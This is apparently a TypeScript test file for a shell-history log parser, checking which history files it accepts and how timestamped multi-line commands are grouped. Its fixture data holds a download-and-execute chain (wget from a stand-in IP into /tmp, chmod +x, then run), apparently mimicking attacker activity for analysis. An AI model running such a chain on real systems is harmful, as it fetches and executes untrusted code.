import { describe, expect, test } from 'vitest';
import { Zone } from '../core/zone.ts';
import history from './bash-history.ts';

function read(lines: readonly string[]): [command: unknown, lines: number][] {
  const out: [unknown, number][] = [];
  const context = { zone: new Zone('UTC'), year: () => 2026 };
  const reader = history.open(context, ({ fields }, _line, count) => out.push([fields['process.command_line'], count]));
  lines.forEach((line, at) => {
    reader.push(line, at + 1);
  });
  reader.end();
  return out;
}

describe('accepts', () => {
  const commands = ['cd /tmp', 'wget http://203.0.113.9/a', 'chmod +x a', './a'];

  test.each([
    ['/home/maria/.bash_history', commands],
    ['root_zsh_history.txt', commands],
    ['/root/.ash_history', commands],
    ['anything', ['#1772000000', 'id']],
    ['anything', [': 1772000000:0;id']],
    ['fish_history', ['- cmd: id', '  when: 1772000000']],
  ])('%s', (path, head) => {
    expect(history.accepts(path, head)).toBe(true);
  });

  test.each([
    ['/home/maria/notes.txt', commands],
    ['/home/maria/.mysql_history', ['select 1;']],
    ['/var/log/apt/history.log', ['Start-Date: 2026-03-01  04:05:06', 'Commandline: apt install jq']],
    ['web_history.log', ['Mar  1 08:00:00 web1 sshd[1]: x', 'Mar  1 08:00:01 web1 sshd[1]: y']],
    ['.bash_history', ['\0\0\0\0', 'id']],
    ['.bash_history', []],
  ])('not %s', (path, head) => {
    expect(history.accepts(path, head)).toBe(false);
  });
});

test('without stamps each line is a command', () => {
  expect(read(['id', 'ls -la', 'id'])).toEqual([
    ['id', 1],
    ['ls -la', 1],
    ['id', 1],
  ]);
});

test('with stamps a command has as many lines as it had', () => {
  expect(read(['old command', '#1772000000', 'for x in 1 2; do', '  echo $x', 'done', '#1772000001', 'id'])).toEqual([
    ['old command', 1],
    ['for x in 1 2; do\n  echo $x\ndone', 4],
    ['id', 2],
  ]);
});

test('a stamp among other lines takes one command only', () => {
  const context = { zone: new Zone('UTC'), year: () => 2026 };
  const reader = history.open(context, () => undefined);
  expect(['#1772000000', 'id', 'Mar  1 08:00:00 web1 sshd[1]: x'].map((line, at) => reader.push(line, at + 7))).toEqual(
    [true, true, false],
  );
});
